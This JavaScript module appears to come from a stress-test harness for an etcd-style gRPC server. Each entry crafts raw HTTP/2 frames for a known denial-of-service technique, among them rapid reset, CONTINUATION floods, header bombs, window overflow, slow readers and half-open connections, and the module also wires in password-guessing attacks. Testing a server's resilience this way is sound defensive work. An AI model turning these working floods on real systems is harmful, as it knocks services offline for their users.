// @ts-check
/**
 * What is done to the server, by name. Each goes on until it is told to stop, and returns how often it did what it does.
 *
 * @typedef {{ readonly port: number, readonly isOver: () => boolean }} Target
 * @typedef {(target: Target) => Promise<number>} Attack
 */
import { create, toBinary } from '@bufbuild/protobuf';
import { kvService, RangeRequestSchema, WatchRequestSchema, watchService } from '@varve/etcd-api';
import { callHeaders, flags, frame, header, message, newest, preface, remembered, settings, types } from './frames.mjs';
import { HostileConnection } from './hostile-connection.mjs';
import { many, nextStream, repeat } from './repeat.mjs';
import { serviceAttacks } from './service-attacks.mjs';
import { asManyReads, wrongPasswords } from './wrong-passwords.mjs';

const put = kvService.put.path;
const rest = (/** @type {number} */ ms) => new Promise((resolve) => setTimeout(resolve, ms));
const number = (/** @type {number} */ value) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Large values are below this key: see flood.mjs. */
const large = toBinary(RangeRequestSchema, create(RangeRequestSchema, { key: Buffer.from('large') }));
const watch = toBinary(
  WatchRequestSchema,
  create(WatchRequestSchema, { requestUnion: { case: 'createRequest', value: { key: Buffer.from('attacked') } } }),
);

/** @type {Readonly<Record<string, Attack>>} */
export const attacks = {
  'rapid reset': (target) =>
    repeat(target, 4, (connection) =>
      many(50, () => {
        const stream = nextStream(connection);
        const opening = frame(types.headers, flags.endHeaders, stream, callHeaders(put));
        return Buffer.concat([opening, frame(types.reset, 0, stream, number(8))]);
      }),
    ),
  continuation: (target) =>
    repeat(target, 4, (connection) => {
      const more = frame(types.continuation, 0, 1, header('x-more', 'x'.repeat(1000)));
      if (connection.stream !== 1) return many(16, () => more);
      connection.stream = 3;
      return frame(types.headers, 0, 1, callHeaders(put));
    }),
  'empty continuation': (target) =>
    repeat(target, 4, (connection) => {
      if (connection.stream !== 1) return many(500, () => frame(types.continuation, 0, 1));
      connection.stream = 3;
      return frame(types.headers, 0, 1, callHeaders(put));
    }),
  'header bomb': (target) =>
    repeat(target, 4, (connection) => {
      const bomb = [remembered('x-bomb', 'x'.repeat(3900)), Buffer.alloc(8000, newest)];
      return frame(types.headers, flags.endHeaders | flags.endStream, nextStream(connection), callHeaders(put, bomb));
    }),
  'large metadata': (target) =>
    repeat(target, 4, (connection) => {
      const more = [header('x-large', 'x'.repeat(12_000))];
      return frame(types.headers, flags.endHeaders | flags.endStream, nextStream(connection), callHeaders(put, more));
    }),
  'announced as 4 GiB': (target) =>
    repeat(target, 4, (connection) => {
      const stream = nextStream(connection);
      const opening = frame(types.headers, flags.endHeaders, stream, callHeaders(put));
      return Buffer.concat([opening, frame(types.data, 0, stream, message(new Uint8Array(0), 0xffff_ffff))]);
    }),
  'large messages': (target) =>
    repeat(target, 4, (connection) => {
      const stream = nextStream(connection);
      const opening = frame(types.headers, flags.endHeaders, stream, callHeaders(put));
      const first = frame(types.data, 0, stream, message(new Uint8Array(16_000), 2_000_000));
      return Buffer.concat([opening, first, many(2, () => frame(types.data, 0, stream, new Uint8Array(16_000)))]);
    }),
  'settings, ping and priority': (target) =>
    repeat(target, 4, (connection) => {
      const weight = Buffer.concat([number(0), Buffer.of(16)]);
      const one = Buffer.concat([
        ...[settings(), frame(types.ping, 0, 0, Buffer.alloc(8))],
        frame(types.priority, 0, connection.stream, weight),
      ]);
      return many(100, () => one);
    }),
  'empty data': (target) =>
    repeat(target, 4, (connection) => {
      if (connection.stream !== 1) return many(500, () => frame(types.data, 0, 1));
      connection.stream = 3;
      return frame(types.headers, flags.endHeaders, 1, callHeaders(put));
    }),
  'window overflow': (target) =>
    repeat(target, 4, () => many(4, () => frame(types.windowUpdate, 0, 0, number(0x7fff_ffff)))),
  'streams without number': (target) =>
    repeat(target, 4, (connection) =>
      many(50, () => frame(types.headers, flags.endHeaders, nextStream(connection), callHeaders(put))),
    ),
  'watchers without number': (target) =>
    repeat(target, 4, (connection) => {
      const open = connection.stream < 500;
      if (open) {
        return many(50, () => {
          const stream = nextStream(connection);
          const opening = frame(types.headers, flags.endHeaders, stream, callHeaders(watchService.watch.path));
          return Buffer.concat([opening, frame(types.data, 0, stream, message(watch))]);
        });
      }
      return many(20, () => frame(types.data, 0, 1, message(watch)));
    }),
  'readers that do not read': (target) => slowReaders(target),
  'writers of one byte': async (target) => {
    let count = 0;
    const connections = Array.from({ length: 4 }, () => new HostileConnection(target.port));
    for (let round = 0; !target.isOver(); round++) {
      for (const connection of connections) {
        await connection.open();
        const opening = () =>
          many(200, () => frame(types.headers, flags.endHeaders, nextStream(connection), callHeaders(put)));
        if (connection.stream === 1) await connection.write(opening());
        const bytes = message(new Uint8Array(0), 1000);
        const byte = round < bytes.length ? bytes.subarray(round, round + 1) : Buffer.of(10);
        const frames = Array.from({ length: 200 }, (_, at) => frame(types.data, 0, 1 + 2 * at, byte));
        await connection.write(Buffer.concat(frames));
        count += frames.length;
      }
      await rest(50);
    }
    for (const connection of connections) connection.close();
    return count;
  },
  'half-open connections': async (target) => {
    let count = 0;
    const greetings = [
      Buffer.alloc(0),
      preface.subarray(0, 2),
      preface.subarray(0, 20),
      preface,
      Buffer.from('GET /v'),
    ];
    const open = greetings.flatMap((greeting) =>
      Array.from({ length: 100 }, () => new HostileConnection(target.port, greeting)),
    );
    while (!target.isOver()) {
      for (const connection of open) {
        if (connection.isOpen) continue;
        await connection.open();
        count += 1;
      }
      await rest(50);
    }
    for (const connection of open) connection.close();
    return count;
  },
  ...serviceAttacks,
};

/** Of a server that asks who calls. @type {Readonly<Record<string, Attack>>} */
export const loginAttacks = { 'wrong passwords': wrongPasswords };

/** As much that is no attack, to compare with. @type {Readonly<Record<string, Attack>>} */
export const controls = { 'as many reads': asManyReads };

/** Asks for what is large on every stream, lets nothing of it through, and does not even empty the socket. @param {Target} target */
async function slowReaders(target) {
  let count = 0;
  const connections = Array.from({ length: 4 }, () => {
    const closed = settings({ 4: 0 });
    return new HostileConnection(target.port, Buffer.concat([preface, closed]));
  });
  while (!target.isOver()) {
    for (const connection of connections) {
      const isNew = !connection.isOpen;
      await connection.open();
      if (!isNew) continue;
      connection.pause();
      for (let at = 0; at < 200; at++) {
        const stream = nextStream(connection);
        const opening = frame(types.headers, flags.endHeaders, stream, callHeaders(kvService.range.path));
        await connection.write(Buffer.concat([opening, frame(types.data, flags.endStream, stream, message(large))]));
        count += 1;
      }
    }
    await rest(50);
  }
  for (const connection of connections) connection.close();
  return count;
}
